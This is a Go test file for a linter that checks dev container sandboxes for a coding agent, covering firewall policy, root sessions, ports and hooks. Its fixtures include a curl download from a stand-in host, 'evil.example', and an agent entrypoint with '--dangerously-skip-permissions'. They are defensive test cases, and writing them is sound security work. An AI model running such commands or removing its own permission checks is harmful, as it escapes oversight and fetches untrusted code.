package contract

import (
	"fmt"
	"strings"
	"testing"

	"github.com/org/claude-sandbox/devcontainer"
	"github.com/org/claude-sandbox/devcontainer/pages"
	"github.com/org/claude-sandbox/devcontainer/rule"
)

const exampleConfig = ".devcontainer/devcontainer.json"

// view is what the rules look at in a tree with a devcontainer.json.
func view(t *testing.T, tree devcontainer.Memory) *rule.View {
	t.Helper()
	p, err := devcontainer.Load(tree, exampleConfig, exampleConfig)
	if err != nil {
		t.Fatal(err)
	}
	return rule.NewView(p)
}

// said writes a rule's findings, one a line, with their file.
func said(v *rule.View, id string) string {
	var lines []string
	for _, r := range Rules {
		if r.ID != id {
			continue
		}
		for _, f := range r.Check(v) {
			line, _ := f.Place.Doc.Position(f.Place.Start)
			lines = append(lines, fmt.Sprintf("%s:%d: %s", strings.TrimPrefix(f.Place.Doc.File, ".devcontainer/"), line, f.Message))
		}
	}
	return strings.Join(lines, "\n")
}

// Each rule finds its bad example by itself, and nothing in the good one.
func TestEachRuleFindsItsExample(t *testing.T) {
	for _, r := range Rules {
		page := pages.Of(r.ID)
		if said(view(t, page.Bad.Files()), r.ID) == "" {
			t.Errorf("%s finds nothing in its bad example", r.ID)
		}
		if got := said(view(t, page.Good.Files()), r.ID); got != "" {
			t.Errorf("%s finds in its good example: %s", r.ID, got)
		}
	}
}

// sandboxed is a dev container of ours with more properties, and the files of a local
// Feature with metadata.
func sandboxed(properties, feature, dockerfile string) devcontainer.Memory {
	tree := devcontainer.Memory{
		exampleConfig: `{"build": {"dockerfile": "Dockerfile"}, "features": {"./tool": {}}, "capAdd": ` +
			`["NET_ADMIN"]` + properties + `}`,
		".devcontainer/sandbox.jsonc": `{"network": {"allow": ["ok.example"], "inbound": [3000]}}`,
		".devcontainer/Dockerfile": "FROM debian:13\n" + dockerfile +
			"\nENTRYPOINT [\"/usr/local/sbin/sbx-init\", \"run\"]\n",
		".devcontainer/tool/devcontainer-feature.json": `{"id": "tool", "version": "1.0.0", "name": "Tool"` + feature + `}`,
		".devcontainer/tool/install.sh":                "",
	}
	return tree
}

// A command is judged by the policy, whoever brings it: the configuration, a Feature of
// the repository, a label.
func TestRefusedCommandsOfEveryHook(t *testing.T) {
	const hook = `"postCreateCommand": "curl -fsSO https://evil.example/x"`
	for name, c := range map[string]struct {
		tree devcontainer.Memory
		want string
	}{
		"property": {sandboxed(", "+hook, "", ""), "devcontainer.json:1: postCreateCommand reaches for evil.example, which the policy refuses"},
		"Feature": {sandboxed("", ", "+hook, ""),
			"devcontainer.json:1: by the Feature ./tool, postCreateCommand reaches for evil.example, which the policy refuses"},
		"label": {sandboxed("", "", "LABEL devcontainer.metadata='[{"+hook+"}]'"),
			"Dockerfile:2: postCreateCommand reaches for evil.example, which the policy refuses"},
		"allowed": {sandboxed(`, "postCreateCommand": "curl -fsSO https://ok.example/x"`, "", ""), ""},
		"a preset": {sandboxed(`, "postStartCommand": ["npm", "ci"]`, "", ""),
			"devcontainer.json:1: postStartCommand runs npm, and the policy allows nothing that it fetches from"},
	} {
		if got := said(view(t, c.tree), "SBX814"); got != c.want {
			t.Errorf("%s: got %q, want %q", name, got, c.want)
		}
	}
}

// A session is root's by a label, from the second one on, where the configuration names
// nobody; and an agent that never asks is found in whatever starts it.
func TestSessionsAndStartsOfALabel(t *testing.T) {
	const root = "LABEL devcontainer.metadata='[{\"remoteUser\": \"root\"}]'\nUSER dev"
	const asRoot = "devcontainer.json:1: sessions run as root, who can change the firewall"
	for name, c := range map[string]struct{ properties, dockerfile, rule, want string }{
		"by the label":           {`, "securityOpt": ["no-new-privileges"]`, root, "SBX805", asRoot},
		"not of the named user":  {`, "securityOpt": ["no-new-privileges"], "remoteUser": "dev"`, root, "SBX805", ""},
		"not once: root's first": {"", "LABEL devcontainer.metadata='[{\"remoteUser\": \"dev\"}]'\nUSER root", "SBX805", asRoot},
	} {
		if got := said(view(t, sandboxed(c.properties, "", c.dockerfile)), c.rule); got != c.want {
			t.Errorf("%s: got %q, want %q", name, got, c.want)
		}
	}
	open := sandboxed("", `, "entrypoint": "claude --dangerously-skip-permissions"`, "")
	delete(open, ".devcontainer/sandbox.jsonc")
	open[".devcontainer/Dockerfile"] = "FROM debian:13\n"
	if got, want := said(view(t, open), "SBX811"),
		"devcontainer.json:1: by the Feature ./tool, the agent never asks, and no firewall contains it"; got != want {
		t.Errorf("a Feature's entrypoint: got %q, want %q", got, want)
	}
}

// Ports that --publish-all publishes are those that EXPOSE and --expose name.
func TestPublishedPorts(t *testing.T) {
	const closed = "is published, and the firewall lets no connection in"
	for name, c := range map[string]struct {
		properties, dockerfile, want string
	}{
		"one":               {`, "runArgs": ["-p", "8080:80"]`, "", "devcontainer.json:1: port 80 " + closed},
		"inbound":           {`, "runArgs": ["-p", "3000:3000"]`, "", ""},
		"exposed":           {"", "EXPOSE 9000", ""},
		"all":               {`, "runArgs": ["-P"]`, "EXPOSE 3000 9000/tcp", "Dockerfile:2: port 9000 " + closed},
		"all, by an option": {`, "runArgs": ["--publish-all", "--expose", "9001"]`, "", "devcontainer.json:1: port 9001 " + closed},
	} {
		if got := said(view(t, sandboxed(c.properties, "", c.dockerfile)), "SBX813"); got != c.want {
			t.Errorf("%s: got %q, want %q", name, got, c.want)
		}
	}
}

// A firewall in a hook starts too late, whoever brings the hook. One in a label does not
// even do that: the container starts once without it, so it is no reason to be silent
// about an ENTRYPOINT that never runs.
func TestAFirewallInAHook(t *testing.T) {
	const hook = `"postStartCommand": "sudo /usr/local/bin/init-firewall.sh"`
	tree := func(properties, feature, dockerfile string) devcontainer.Memory {
		files := sandboxed(properties, feature, dockerfile)
		files[".devcontainer/Dockerfile"] = "FROM debian:13\n" + dockerfile + "\nCOPY init-firewall.sh /usr/local/bin/\n"
		files[".devcontainer/init-firewall.sh"] = "iptables -P OUTPUT DROP\n"
		delete(files, ".devcontainer/sandbox.jsonc")
		return files
	}
	for name, c := range map[string]struct {
		tree devcontainer.Memory
		want string
	}{
		"property": {tree(", "+hook, "", ""),
			"devcontainer.json:1: postStartCommand raises the firewall: when it fails the container goes on without one"},
		"Feature": {tree("", ", "+hook, ""),
			"devcontainer.json:1: by the Feature ./tool, postStartCommand raises the firewall: when it fails the container goes on without one"},
		"label": {tree("", "", "LABEL devcontainer.metadata='{"+hook+"}'"), ""},
	} {
		v := view(t, c.tree)
		if got := said(v, "SBX803"); got != c.want {
			t.Errorf("%s: got %q, want %q", name, got, c.want)
		}
	}
}

// The options of the Feature are a policy like a file's, with defaults where one is left
// out, and unknown where a variable stands in one.
func TestFeaturePolicy(t *testing.T) {
	for options, want := range map[string]string{
		`{}`: "[anthropic github vscode] [] [gist.github.com] []",
		`{"presets": "npm, pypi", "allow": "a.example,b.example:8443", "deny": "", "private": "db.internal"}`: "[npm pypi] [a.example " +
			"b.example:8443] [] [db.internal]",
		`{"allow": "${localEnv:HOSTS}"}`: "unknown",
		`{"presets": "nmp"}`:             "presets: unknown preset \"nmp\"",
	} {
		p := view(t,
			devcontainer.Memory{exampleConfig: `{"image": "debian:13", "features": {"ghcr.io/org/claude-sandbox/firewall:1": ` +
				options + `}}`}).Project
		policy, errs := FirewallPolicy(p)
		got := "unknown"
		switch {
		case errs != nil:
			got = errs[0].List + ": " + errs[0].Message
		case policy != nil:
			n := policy.Network()
			got = fmt.Sprint(n.Presets, n.Allow, n.Deny, n.Private)
			got = strings.ReplaceAll(got, "][", "] [")
		}
		if !strings.HasPrefix(got, want) {
			t.Errorf("%s: got %q, want %q", options, got, want)
		}
	}
}

// Inspect says what somebody's dev container lacks.
func TestInspect(t *testing.T) {
	for name, c := range map[string]struct {
		tree devcontainer.Memory
		want string
	}{
		"nothing": {devcontainer.Memory{exampleConfig: `{"image": "debian:13"}`}, "\"\" false false\n"},
		"Claude by a hook, and its login": {devcontainer.Memory{exampleConfig: `{"image": "debian:13", "containerUser": "dev",
			"postCreateCommand": "npm i -g @anthropic-ai/claude-code", "mounts": ["type=volume,source=c,target=/home/dev/.claude"]}`},
			"\"dev\" true true\n"},
		"Claude by a Feature": {
			devcontainer.Memory{exampleConfig: `{"image": "debian:13", "features": {"ghcr.io/anthropics/devcontainer-features/claude-code:1": {}}}`},
			"\"\" true false\n"},
		"a service": {devcontainer.Memory{exampleConfig: `{"dockerComposeFile": "c.yaml", "service": "a", "workspaceFolder": "/w"}`,
			".devcontainer/c.yaml": "services:\n  a:\n    image: debian:13\n    user: dev\n    volumes: ['..:/w']\n"},
			"\"dev\" false false\n    user: root\n"},
		"a sandbox's service": {devcontainer.Memory{exampleConfig: `{"dockerComposeFile": "c.yaml", "service": "a", "workspaceFolder": "/w"}`,
			".devcontainer/c.yaml": "services:\n  a:\n    image: debian:13\n    volumes: ['..:/w']\n", ".devcontainer/sandbox.jsonc": "{}"},
			"\"\" false false\n    volumes:\n      - \"../.devcontainer:/w/.devcontainer:ro\"\n"},
	} {
		f := Inspect(view(t, c.tree).Project)
		got := fmt.Sprintf("%q %v %v\n", f.StartUser, f.Claude, f.Login)
		if f.Compose != nil {
			got += f.Compose.String()
		}
		if got != c.want {
			t.Errorf("%s: got\n%swant\n%s", name, got, c.want)
		}
	}
}
